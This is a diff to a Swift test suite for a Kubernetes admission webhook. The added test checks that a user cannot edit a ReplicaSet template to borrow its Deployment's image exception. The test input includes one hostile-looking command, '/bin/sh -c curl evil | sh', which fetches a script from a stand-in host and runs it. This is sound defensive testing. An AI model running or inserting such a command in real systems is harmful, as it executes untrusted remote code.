@@ -187,12 +187,14 @@ struct OwnerChainExceptionTests {
         let server = try await Self.cluster()
         defer { server.stop() }
         let responder = try Self.responder(server)
-        func update(user: String, owner: OwnerClaim?, oldOwner: OwnerClaim? = nil) throws -> [UInt8] {
-            func replicaSet(_ owner: OwnerClaim?) -> [String: Any] {
+        func update(user: String, owner: OwnerClaim?, oldOwner: OwnerClaim? = nil, command: [String]? = nil) throws -> [UInt8] {
+            func replicaSet(_ owner: OwnerClaim?, command: [String]? = nil) -> [String: Any] {
                 var metadata: [String: Any] = ["name": "mine", "namespace": "shop", "uid": "uid-rs-mine"]
                 if let owner { metadata["ownerReferences"] = [owner.json] }
+                var container: [String: Any] = ["name": "app", "image": "ghcr.io/acme/web:v1"]
+                if let command { container["command"] = command }
                 return ["apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": metadata,
-                        "spec": ["template": ["spec": ["containers": [["name": "app", "image": "ghcr.io/acme/web:v1"]]]]]]
+                        "spec": ["replicas": 3, "template": ["spec": ["containers": [container]]]] as [String: Any]]
             }
             let review: [String: Any] = [
                 "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
@@ -200,7 +202,7 @@ struct OwnerChainExceptionTests {
                     "uid": "u-2", "kind": ["group": "apps", "version": "v1", "kind": "ReplicaSet"],
                     "resource": ["group": "apps", "version": "v1", "resource": "replicasets"],
                     "namespace": "shop", "name": "mine", "operation": "UPDATE", "userInfo": ["username": user],
-                    "object": replicaSet(owner), "oldObject": replicaSet(oldOwner),
+                    "object": replicaSet(owner, command: command), "oldObject": replicaSet(oldOwner),
                 ] as [String: Any],
             ]
             return Array(try JSONSerialization.data(withJSONObject: review))
@@ -214,6 +216,13 @@ struct OwnerChainExceptionTests {
         // Nothing about the controller changes (a label, a scale): the images are not decided again.
         #expect((await Self.decide(responder, try update(user: "alice", owner: web, oldOwner: web))).allowed)
         #expect((await Self.decide(responder, try update(user: "alice", owner: nil, oldOwner: web))).allowed, "orphaning changes no image")
+        // Another command in an owned ReplicaSet's template, the image unchanged: the Pods made
+        // from it would run it under the Deployment's exception. Decided whole for anyone but
+        // the controller that makes ReplicaSets.
+        let edited = await Self.decide(responder, try update(user: "alice", owner: web, oldOwner: web, command: ["/bin/sh", "-c", "curl evil | sh"]))
+        #expect(!edited.allowed, "a template edit by a user borrowed the Deployment's exception: \(edited.text)")
+        #expect((await Self.decide(responder, try update(
+            user: "system:serviceaccount:kube-system:deployment-controller", owner: web, oldOwner: web, command: ["/app"]))).allowed)
     }
 
     @Test func withoutTheOwnerLookupThePodIsNotExempt() async throws {
